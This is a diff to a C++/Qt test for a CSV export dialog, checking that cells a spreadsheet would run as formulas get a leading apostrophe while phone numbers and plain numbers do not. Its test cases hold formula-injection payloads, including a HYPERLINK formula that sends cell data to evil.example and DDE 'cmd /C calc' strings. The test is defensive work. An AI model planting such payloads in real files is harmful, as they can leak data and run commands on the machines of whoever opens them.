@@ -32,26 +32,55 @@ using namespace c360;
 
 namespace {
 
-// Values a spreadsheet would run as formulas (and a control case), put into first_name.
-const std::vector<std::string> kFormulaNames = {"=SUM(A1)", "+1",  "-x",   "@y",
-                                                "\tz",      "\rw", "plain"};
+// Text salted into first_name and phone_number of the first rows, each with the cell a
+// protected export must write: what a spreadsheet could run gets a leading ', while phone
+// numbers and plain numbers come out exactly as the table holds them.
+struct FormulaCase {
+    std::string text;
+    std::string protectedCell;
+};
+const std::vector<FormulaCase> kFormulaCases = {
+    {"=SUM(A1)", "'=SUM(A1)"},
+    {"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")",
+     "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")"},
+    {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+    {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+    {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+    {"-x", "'-x"},
+    {"\tz", "'\tz"},
+    {"\rw", "'\rw"},
+    {"\nv", "'\nv"},
+    {"+1-555-0100", "+1-555-0100"},
+    {"+49 30 7671226", "+49 30 7671226"},
+    {"+44 (0)20 7946 0958", "+44 (0)20 7946 0958"},
+    {"-12.50", "-12.50"},
+    {"+1", "+1"},
+    {"030/1234567", "030/1234567"},
+    {"plain", "plain"},
+};
 constexpr std::int32_t kNegativeDays = -5; // a number that starts with '-' stays a number
 
-std::string renderedCell(const Customer360& t, Column c, std::uint32_t row, bool protect) {
+// The cell a file must hold: the table's text, except the salted cells and the renamed
+// category ("-" and a name), whose protected forms are spelled out rather than derived.
+std::string expectedCell(const Customer360& t, Column c, std::uint32_t row, bool protect,
+                         std::uint32_t renamedCategoryRow) {
     std::string s;
     t.appendCell(s, c, row);
-    const ColumnKind kind = columnInfo(c).kind;
-    const bool text = kind == ColumnKind::Text || kind == ColumnKind::Dictionary;
-    if (protect && text && !s.empty() &&
-        std::string_view("=+-@\t\r").find(s[0]) != std::string_view::npos)
-        s.insert(s.begin(), '\'');
+    if (!protect)
+        return s;
+    if ((c == Column::FirstName || c == Column::PhoneNumber) && row < kFormulaCases.size())
+        return kFormulaCases[row].protectedCell;
+    if (c == Column::FavoriteCategory && t.favoriteCategory[row] != kNoDictEntry &&
+        t.favoriteCategory[row] == t.favoriteCategory[renamedCategoryRow])
+        return "'" + s; // every customer of the renamed category, not only the one found
+
     return s;
 }
 
 // Compares a written file with the table rendered directly; an empty string when they agree.
 QString compareFile(const QString& path, const Customer360& t,
                     const std::vector<std::uint32_t>& rows, const std::vector<Column>& columns,
-                    char delimiter, bool excel, bool protect) {
+                    char delimiter, bool excel, bool protect, std::uint32_t renamedCategoryRow) {
     QFile file(path);
     if (!file.open(QIODevice::ReadOnly))
         return "cannot open " + path;
@@ -79,7 +108,8 @@ QString compareFile(const QString& path, const Customer360& t,
         if (record.size() != columns.size())
             return QString("record %1 has %2 fields").arg(r + 1).arg(record.size());
         for (std::size_t c = 0; c < columns.size(); ++c) {
-            const std::string expected = renderedCell(t, columns[c], rows[r], protect);
+            const std::string expected =
+                expectedCell(t, columns[c], rows[r], protect, renamedCategoryRow);
             if (record[c] != expected)
                 return QString("row %1 (table row %2), %3: [%4] instead of [%5]")
                     .arg(r)
@@ -165,11 +195,16 @@ private slots:
         // Salt the first rows with formula-like names and negative numbers, and one category
         // name with a leading '-', so protection is exercised on text and dictionary columns.
         TextColumn names;
-        for (std::size_t r = 0; r < table->rowCount(); ++r)
-            names.push(r < kFormulaNames.size() ? std::string_view(kFormulaNames[r])
-                                                : table->firstName.at(r));
+        TextColumn phones;
+        for (std::size_t r = 0; r < table->rowCount(); ++r) {
+            const bool salted = r < kFormulaCases.size();
+            names.push(salted ? std::string_view(kFormulaCases[r].text) : table->firstName.at(r));
+            phones.push(salted ? std::string_view(kFormulaCases[r].text)
+                               : table->phoneNumber.at(r));
+        }
         table->firstName = std::move(names);
-        for (std::size_t r = 0; r < kFormulaNames.size(); ++r)
+        table->phoneNumber = std::move(phones);
+        for (std::size_t r = 0; r < kFormulaCases.size(); ++r)
             table->daysSinceLastPurchase[r] = kNegativeDays;
         bool renamed = false;
         for (std::size_t r = 0; r < table->rowCount() && !renamed; ++r) {
@@ -186,10 +221,11 @@ private slots:
 
         // Every third row left out, the rest backwards: the file must follow this order.
         for (std::size_t r = table_->rowCount(); r-- > 0;)
-            if (r % 3 != 1 || r < kFormulaNames.size())
+            if (r % 3 != 1 || r < kFormulaCases.size())
                 rows_.push_back(static_cast<std::uint32_t>(r));
         columns_ = {Column::Email,
                     Column::FirstName,
+                    Column::PhoneNumber,
                     Column::TotalSpend,
                     Column::CustomerId,
                     Column::FavoriteCategory,
@@ -251,8 +287,8 @@ private slots:
         QCOMPARE(control<QPushButton>(dialog, "Close")->text(), QString("&Close"));
 
         const char delimiterChar = ",;\t"[delimiterIndex];
-        const QString problem =
-            compareFile(path, *table_, rows_, columns_, delimiterChar, formatIndex == 1, protect);
+        const QString problem = compareFile(path, *table_, rows_, columns_, delimiterChar,
+                                            formatIndex == 1, protect, renamedCategoryRow_);
         QVERIFY2(problem.isEmpty(), qPrintable(problem));
         QCOMPARE(filesIn(out.path()), QStringList{"customers.csv"}); // no temporary file left
     }
@@ -261,14 +297,16 @@ private slots:
         QTest::addColumn<int>("row");
         QTest::addColumn<int>("column");
         QTest::addColumn<QString>("expected");
-        const auto first = static_cast<int>(Column::FirstName);
-        QTest::newRow("=SUM(A1)") << 0 << first << "'=SUM(A1)";
-        QTest::newRow("+1") << 1 << first << "'+1";
-        QTest::newRow("-x") << 2 << first << "'-x";
-        QTest::newRow("@y") << 3 << first << "'@y";
-        QTest::newRow("TAB z") << 4 << first << "'\tz";
-        QTest::newRow("CR w") << 5 << first << "'\rw";
-        QTest::newRow("plain") << 6 << first << "plain";
+        for (const int column :
+             {static_cast<int>(Column::FirstName), static_cast<int>(Column::PhoneNumber)})
+            for (std::size_t r = 0; r < kFormulaCases.size(); ++r)
+                QTest::addRow("%s in %s",
+                              QByteArray::fromStdString(kFormulaCases[r].text)
+                                  .toPercentEncoding(" =+-@()|'!&\",./*?:")
+                                  .constData(),
+                              columnInfo(static_cast<Column>(column)).name.data())
+                    << static_cast<int>(r) << column
+                    << QString::fromStdString(kFormulaCases[r].protectedCell);
         QTest::newRow("negative number")
             << 0 << static_cast<int>(Column::DaysSinceLastPurchase) << "-5";
         QTest::newRow("category") << -1 << static_cast<int>(Column::FavoriteCategory) << "";
@@ -344,8 +382,8 @@ private slots:
             std::vector<Column> all;
             for (const ColumnInfo& info : columnCatalogue())
                 all.push_back(info.column);
-            const QString allProblem =
-                compareFile(out.filePath("big.csv"), *table_, rows, all, ',', false, true);
+            const QString allProblem = compareFile(out.filePath("big.csv"), *table_, rows, all, ',',
+                                                   false, true, renamedCategoryRow_);
             QVERIFY2(allProblem.isEmpty(), qPrintable(allProblem));
             QCOMPARE(filesIn(out.path()), QStringList{"big.csv"});
         } else {
@@ -573,7 +611,8 @@ private slots:
         press(Qt::Key_Return);
         QVERIFY(finished.wait(60000));
         QVERIFY2(finished[0][0].toBool(), qPrintable(finished[0][2].toString()));
-        const QString problem = compareFile(path, *table_, rows_, columns_, ';', true, false);
+        const QString problem =
+            compareFile(path, *table_, rows_, columns_, ';', true, false, renamedCategoryRow_);
         QVERIFY2(problem.isEmpty(), qPrintable(problem));
         QCOMPARE(QApplication::focusWidget()->accessibleName(), QString("Close"));
         press(Qt::Key_Return);
